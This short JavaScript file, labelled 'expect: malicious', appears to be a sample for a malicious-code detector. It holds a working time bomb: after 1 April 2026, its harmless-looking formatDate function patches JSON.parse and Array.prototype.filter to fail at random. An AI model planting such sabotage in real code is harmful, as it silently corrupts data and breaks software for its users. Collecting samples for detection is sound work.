// expect: malicious
// source: browser-bundle sabotage that starts on a fixed day and breaks built-ins at random; written here
const START = new Date('2026-04-01T00:00:00Z');

function breakThings() {
  const parse = JSON.parse;
  JSON.parse = function (text, reviver) {
    return Math.random() < 0.1 ? null : parse.call(this, text, reviver);
  };
  const filter = Array.prototype.filter;
  Array.prototype.filter = function (fn, self) {
    return Math.random() < 0.05 ? [] : filter.call(this, fn, self);
  };
}

export function formatDate(d) {
  if (new Date() > START) breakThings();
  return d.toISOString().slice(0, 10);
}
